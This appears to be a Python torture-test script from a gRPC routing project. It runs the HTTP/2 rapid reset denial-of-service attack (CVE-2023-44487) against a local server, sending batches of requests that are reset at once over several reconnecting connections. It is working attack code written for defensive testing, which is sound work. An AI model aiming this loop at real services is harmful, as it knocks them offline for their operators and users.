"""The rapid reset attack from a separate process: calls that are reset at once.

python -m tests.torture.rapid_reset PORT SECONDS PER_S

Prints how many it sent; PER_S 0 sends as many as possible. Each costs the attacker three small
frames, and a server that begins the call all its work. Source: CVE-2023-44487.
"""

from __future__ import annotations

import asyncio
import sys
import time
from typing import Final

from agent_routing.v1 import routing_service_pb2
from tests.torture.raw_http2 import Connection, Tally, connect, headers_of, message_of

CONNECTIONS: Final = 4
BATCH: Final = 100


async def attack(port: float, seconds: float, per_s: float) -> int:
    """Send them on several connections; a closed connection is opened again."""
    tally = Tally()
    headers = headers_of("/agent_routing.v1.RoutingService/Route", 10_000)
    request = routing_service_pb2.RouteRequest(session_id="taken-back", user_id="eve", text="x")
    message = message_of(request.SerializeToString())
    begun_s = time.monotonic()
    end_s = begun_s + seconds
    connections: list[Connection | None] = [None] * CONNECTIONS
    while time.monotonic() < end_s:
        for place, connection in enumerate(connections):
            if connection is None or connection.is_lost:
                try:
                    connections[place] = await connect("127.0.0.1", int(port), tally)
                except OSError:
                    continue
            elif connection.has_room and (
                not per_s or tally.sent < (time.monotonic() - begun_s) * per_s
            ):
                connection.call_and_reset(headers, message, BATCH)
        await asyncio.sleep(0 if not per_s else BATCH / per_s / 2)
    return tally.sent


if __name__ == "__main__":
    print(asyncio.run(attack(*map(float, sys.argv[1:]))))  # noqa: T201 - its result
